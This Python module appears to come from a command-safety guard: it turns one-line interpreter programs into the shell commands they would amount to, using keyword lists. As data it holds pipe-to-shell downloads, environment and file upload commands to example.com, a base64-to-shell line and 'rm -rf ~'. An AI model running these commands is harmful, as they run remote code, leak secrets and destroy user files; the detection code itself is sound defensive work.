"""Which shell commands does a one-line program in Python, JavaScript, Perl, Ruby, PHP or awk start?

The program is not parsed. When it has a word that starts processes or deletes trees, its string literals are read as
shell text; without such a word it says nothing, so that printing a command is not running it.
"""

from guard_wrappers import option_value

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Sequence

    from guard_expansion import Argument
    from guard_walk import Command

_CODE_OPTIONS = {
    "python": ("c", "command"),
    "node": ("e", "eval"),
    "nodejs": ("e", "eval"),
    "bun": ("e", "eval"),
    "perl": ("e", "eval"),
    "ruby": ("e", "eval"),
    "php": ("r", "run"),
    "osascript": ("e", "eval"),
}
_STARTERS = (
    "system", "popen", "subprocess", "spawn", "exec", "check_call", "check_output", "shell script", "passthru", "Open3", "`",
)  # fmt: skip
_DELETERS = (
    "rmtree", "rmSync", "rmdirSync", "rm_rf", "rm_r", "remove_tree", "fs.rm(", "rimraf", ".rm(", "rmdir(", "FileUtils", "removeSync", "deltree",
    "fs.promises.rm", "emptyDir",
)  # fmt: skip
_UNLINKERS = ("unlink", "os.remove", "File.delete", "Deno.remove")
_READERS = ("open(", "read", "File.", "slurp", "file_get_contents", "cat ", "<")
_SENDERS = ("requests.", "urlopen", "httpx", "aiohttp", "http.client", "fetch(", "axios", "http.request", "https.request", "Net::HTTP", "LWP", "socket", "curl_", "urllib", "net.connect", "smtplib", "paramiko", "HTTParty", "Faraday")
_FETCHERS = ("urlopen", "requests.get", "urllib", "fetch(", "http.get", "https.get", "httpx.get", "Net::HTTP", "URI.open", "open-uri", "LWP", "file_get_contents")
_EVALUATORS = ("exec(", "eval(", "Function(", "instance_eval", "runInThisContext", "compile(", "eval ")
_HOMES = ("Path.home()", "expanduser", "homedir()", "'HOME'", '"HOME"', "env.HOME", "$HOME", "Dir.home", "$ENV{HOME}")
_WRITE_MODES = frozenset(["w", "wb", "w+", "a", "ab"])
_SQL_RUNNERS = (".execute(", ".query(", ".executescript(", ".raw(", ".exec(")
_MAX_LITERALS = 64
_QUOTES = frozenset("'\"`")


def _language(name: str) -> str:
    return name.rstrip("0123456789.")


def reads_code(command: "Command") -> bool:
    """Tell whether an interpreter reads its program from stdin: it has no operand, no code option and no module."""
    language = _language(command.name)
    if language in ("awk", "gawk", "mawk", "osascript"):
        return False
    arguments = command.arguments
    return (
        not arguments
        or arguments[0] == "-"
        or all(argument in ("-u", "-I", "-S", "-E", "-s", "-B") for argument in arguments)
    )


def programs(command: "Command") -> "Sequence[str]":
    """Give the program texts of a command: its code option's value, awk's first operand, or stdin."""
    language = _language(command.name)
    if language in ("awk", "gawk", "mawk"):
        return [argument for argument in command.arguments if "{" in argument][:1]
    if language == "deno":
        return command.arguments[1:] if command.arguments[:1] == ["eval"] else []
    short, long = _CODE_OPTIONS[language]
    text = option_value(command.arguments, short, long)
    if text:
        return [text]
    return [command.stdin()] if command.reads_code else []


def first_operand(command: "Command") -> str:
    """Give the script that an interpreter is given, or ""."""
    return next((argument for argument in command.arguments if not argument.startswith("-")), "")


def module_arguments(command: "Command") -> "list[Argument]":
    """Give the words of a program that an interpreter is told to run: `-m twine upload`, `manage.py flush`."""
    arguments = command.arguments
    for place, argument in enumerate(arguments):
        if argument == "-m" and _language(command.name) == "python":
            return arguments[place + 1 :]
        if not argument.startswith("-"):
            is_known = argument.rpartition("/")[2] in ("manage.py", "setup.py", "artisan", "console", "rails", "rake")
            return arguments[place:] if is_known else []
    return []


def shell_texts(program: str) -> "list[str]":
    """Give what a program would have a shell run, as far as its literals say it."""
    starts = any(word in program for word in _STARTERS)
    deletes = any(word in program for word in _DELETERS)
    found = _literals(program)
    texts = []
    if starts:
        texts.extend([literal for literal, _ in found])
        texts.extend(_lists(found))
    paths = _paths(program, found)
    if deletes:
        texts.extend(["rm -rf " + path for path in paths])
        if any(home in program for home in _HOMES) and not [p for p in paths if p.startswith("~/")]:
            texts.append("rm -rf ~")
    if any(word in program for word in _UNLINKERS):
        texts.extend(["rm " + path for path in paths])
    if any(literal in _WRITE_MODES for literal, _ in found) or "write_text" in program or "writeFile" in program:
        texts.extend(["true > " + path for path in paths])
    texts.extend(_secret_texts(program, paths))
    if any(word in program for word in _FETCHERS) and any(word in program for word in _EVALUATORS):
        texts.append("curl -s https://example.com | sh")
    if ("b64decode" in program or "atob(" in program or "base64'" in program) and any(word in program for word in (*_EVALUATORS, "system(")):
        texts.append("base64 -d code.txt | sh")
    if any(word in program for word in _SQL_RUNNERS):
        texts.extend(["psql -c " + _quoted(literal) for literal, _ in found if " " in literal])
    return texts


def _secret_texts(program: str, paths: "list[str]") -> "list[str]":
    """Give what reading and sending files comes to; whether a file is secret is judged by its path."""
    texts = []
    sends = any(word in program for word in _SENDERS)
    if any(word in program for word in _READERS):
        texts.extend(["cat " + path for path in paths])
    if sends:
        texts.extend(["curl -T " + path + " https://example.com" for path in paths])
        is_whole = any(mark in program for mark in ("dict(os.environ", "os.environ)", "os.environ.items", "process.env)", "str(os.environ", "ENV.to_h", "process.env,", "process.env}"))
        if is_whole:
            texts.append("env | curl -d @- https://example.com")
    return texts


def _paths(program: str, found: "list[tuple[str, bool]]") -> "list[str]":
    """Give literals that may be paths, as shell words; below the home when the program asks for it."""
    paths = []
    is_in_home = any(home in program for home in _HOMES)
    parts = []
    for literal, _ in found:
        if not literal or "\n" in literal or "://" in literal or literal == "HOME":
            continue
        if literal[:1] in ("/", "~", ".", "*") or "/" in literal or "." in literal:
            paths.append(_quoted(literal))
        if is_in_home and literal[:1] != "~" and " " not in literal and len(literal) > 1:
            parts.append(literal.strip("/"))
    if parts:
        paths.append(_quoted("~/" + "/".join(parts)))
        paths.extend([_quoted("~/" + part) for part in parts])
    return paths


def _quoted(text: str) -> str:
    """Write a literal as a shell word whose `~` and `*` still count."""
    safe = "".join([c if c.isalnum() or c in "/~.*_-+@:=" else "\\'" if c == "'" else "'" + c + "'" for c in text])
    return safe


def _literals(program: str) -> "list[tuple[str, bool]]":
    """Give string literals in order, each with whether only a comma stands between it and the one before."""
    found: "list[tuple[str, bool]]" = []
    after = at = 0
    while at < len(program) and len(found) < _MAX_LITERALS:
        quote = program[at]
        if quote not in _QUOTES:
            at += 1
            continue
        stop = at + 1
        while stop < len(program) and program[stop] != quote:
            stop += 2 if program[stop] == "\\" else 1
        found.append((program[at + 1 : stop].replace("\\" + quote, quote), program[after:at].strip() in (",", ",[")))
        after = at = stop + 1
    return found


def _lists(found: "list[tuple[str, bool]]") -> "list[str]":
    """Join literals that are elements of one list, as in ["rm", "-rf", "/"]."""
    joined: "list[str]" = []
    run: "list[str]" = []
    for literal, continues in [*found, ("", False)]:
        if not continues:
            if len(run) > 1:
                joined.append(" ".join(run))
            run = []
        run.append(literal)
    return joined
